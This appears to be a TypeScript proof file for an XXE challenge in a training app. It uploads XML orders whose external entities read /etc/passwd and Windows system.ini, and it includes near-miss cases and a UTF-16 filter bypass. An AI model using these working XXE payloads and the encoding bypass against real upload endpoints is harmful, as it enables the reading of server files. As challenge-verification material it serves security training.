import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const ACCOUNT_LINE = 'root:x:0:0:root:/root:/bin/bash'

function send(attacker: Attacker, document: string | Uint8Array<ArrayBuffer>, name = 'order.xml') {
  const form = new FormData()
  form.append('file', new Blob([document], { type: 'application/xml' }), name)
  return attacker.post('/file-upload', form, { headers: { accept: 'application/json' } })
}

/** An order with an external entity from a URL. */
const orderWith = (address: string) => `<!DOCTYPE order [<!ENTITY xxe SYSTEM "${address}">]><order>&xxe;</order>`

/** In UTF-16 with its byte order mark. */
const inUtf16 = (text: string) => new Uint8Array(Buffer.from(`\uFEFF${text}`, 'utf16le'))

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await send(attacker, '<!DOCTYPE order [<!ENTITY mine "twelve bottles">]><order>&mine;</order>')
    await send(attacker, orderWith('file:///etc/passwd'))
  },
  nearMisses: {
    'an order without entities': (attacker) => send(attacker, '<order>twelve bottles</order>'),
    'an entity of the order itself': (attacker) =>
      send(attacker, `<!DOCTYPE order [<!ENTITY line "${ACCOUNT_LINE}">]><order>&line;</order>`),
    'the text of the file, typed by hand': (attacker) => send(attacker, `<order>${ACCOUNT_LINE}</order>`),
    'a file that is there but tells little': (attacker) => send(attacker, orderWith('file:///etc/hostname')),
    'a file that is not there': (attacker) => send(attacker, orderWith('file:///etc/passwords')),
    'the file in capitals, which is another file on this disk': (attacker) =>
      send(attacker, orderWith('file:///ETC/PASSWD')),
    'an entity that is declared but not used': (attacker) =>
      send(attacker, orderWith('file:///etc/passwd').replace('&xxe;', 'nothing')),
    'an address of the web': (attacker) => send(attacker, orderWith('http://localhost/etc/passwd')),
    'the same document under the name of an invoice': (attacker) =>
      send(attacker, orderWith('file:///etc/passwd'), 'order.pdf'),
  },
  bypasses: {
    'count-the-references': (attacker) => send(attacker, orderWith('file:///etc/passwd')),
    'refuse-the-word-entity': (attacker) => send(attacker, inUtf16(orderWith('file:///C:/Windows/system.ini'))),
  },
})
